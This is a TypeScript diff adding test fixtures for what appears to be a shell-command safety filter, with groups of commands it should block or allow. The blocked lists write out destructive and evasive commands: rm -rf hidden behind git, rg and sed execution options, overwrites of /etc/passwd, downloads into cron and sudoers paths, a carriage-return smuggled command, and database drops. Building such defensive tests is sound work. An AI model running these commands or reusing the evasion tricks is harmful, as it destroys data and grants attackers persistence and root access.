@@ -5,6 +5,50 @@ export interface Family {
 }
 
 export const families: Readonly<Record<string, Family>> = {
+  'programs that run or write by an option': {
+    stopped: [
+      'git bisect run rm -rf /srv/ledger',
+      "git -C shop submodule foreach 'rm -rf *'",
+      "git rebase -x 'rm -rf /srv/ledger' main",
+      "git difftool -x 'rm -rf /srv/ledger'",
+      "rg --pre 'rm -rf /srv/ledger' invoices",
+      "sed 's/paid/rm -rf \\/srv/e' ledger.txt",
+      "find / -name '*.conf' -fprint /etc/passwd",
+      'sort -o /etc/passwd /dev/null',
+      'curl -o /etc/cron.d/ledger https://tools.acme.example/x',
+      'wget -O /etc/sudoers.d/ledger https://tools.acme.example/x',
+      'echo c | tee /proc/sysrq-trigger',
+      'ls\rrm -rf /srv/ledger',
+    ],
+    passes: [
+      'git bisect run npm test',
+      'git bisect start',
+      "git submodule foreach 'git status'",
+      'git rebase main',
+      'rg --pretty invoices src',
+      "sed 's/paid/due/g' ledger.txt",
+      "find . -name '*.conf' -fprint found.txt",
+      'sort -o names.txt names.txt',
+      'curl -o tool.tgz https://tools.acme.example/x',
+      'ls\r\npwd\r\n',
+    ],
+  },
+  'statements in other words': {
+    stopped: [
+      "clickhouse-client -q 'ALTER TABLE ledger DELETE WHERE 1'",
+      "psql -c \"select dblink_exec('dbname=shop', 'drop table ledger')\"",
+      'mongosh --eval \'db["ledger"]["drop"]()\'',
+      'redis-cli SHUTDOWN NOSAVE',
+      "echo 'drop user shop cascade;' | sqlplus / as sysdba",
+      'sqlplus shop/x@prod @wipe.sql',
+    ],
+    passes: [
+      "clickhouse-client -q 'ALTER TABLE ledger ADD COLUMN note String'",
+      'mongosh --eval \'db["ledger"].countDocuments()\'',
+      'redis-cli SHUTDOWN SAVE',
+      "echo 'select 1 from dual;' | sqlplus shop@prod",
+    ],
+  },
   'wrappers and paths': {
     stopped: [
       'pkexec rm -rf /srv',
